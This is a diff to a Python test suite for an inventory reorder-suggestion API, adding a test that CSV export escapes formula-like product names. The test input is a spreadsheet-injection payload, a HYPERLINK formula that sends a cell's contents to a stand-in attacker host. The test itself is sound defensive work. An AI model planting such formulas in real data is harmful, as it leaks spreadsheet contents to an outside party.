@@ -84,9 +84,16 @@ class Rows:
             )
         )
 
-    def sku(self, sku_id: str, *, pack_size: int = 1) -> None:
+    def sku(self, sku_id: str, *, pack_size: int = 1, name: str | None = None) -> None:
         self.items.append(
-            Sku(sku_id=sku_id, name=f"Item {sku_id}", pack_size=pack_size, price=1, currency="EUR", updated_at=NOW)
+            Sku(
+                sku_id=sku_id,
+                name=name or f"Item {sku_id}",
+                pack_size=pack_size,
+                price=1,
+                currency="EUR",
+                updated_at=NOW,
+            )
         )
 
     def policy(
@@ -441,6 +448,22 @@ async def test_reorder_suggestions_over_http_as_json_and_csv(engine: AsyncEngine
     assert (missing.status_code, missing.json()["detail"]) == (404, "no store profile 'store-0404'")
     bad = await client.get("/api/v1/stores/near/reorder-suggestions", params={"format": "xml", "history_days": 0})
     assert bad_parameter(bad) == [["query", "history_days"], ["query", "format"]]
+
+
+async def test_reorder_csv_writes_a_formula_like_name_as_text(engine: AsyncEngine, client: httpx.AsyncClient) -> None:
+    rows = Rows()
+    name = '=HYPERLINK("https://evil.example/?"&A2,"order now")'
+    rows.sku("EVIL", pack_size=1, name=name)
+    rows.store("near", "Europe/London", at=TWELVE_KM_NORTH)
+    rows.policy("near", "EVIL", max_stock=100, reorder_point=20)
+    rows.on_hand("near", "EVIL", 5)
+    await rows.write(engine)
+    assert [i["name"] for i in (await client.get("/api/v1/stores/near/reorder-suggestions")).json()["items"]] == [name]
+
+    response = await client.get("/api/v1/stores/near/reorder-suggestions", params={"format": "csv"})
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["name"] == "'" + name  # shown as text by a spreadsheet, never run
+    assert (row["sku_id"], row["quantity"], row["on_hand"]) == ("EVIL", "95", "5")  # numbers stay numbers
 
 
 async def test_transfer_suggestions_over_http(engine: AsyncEngine, client: httpx.AsyncClient) -> None:
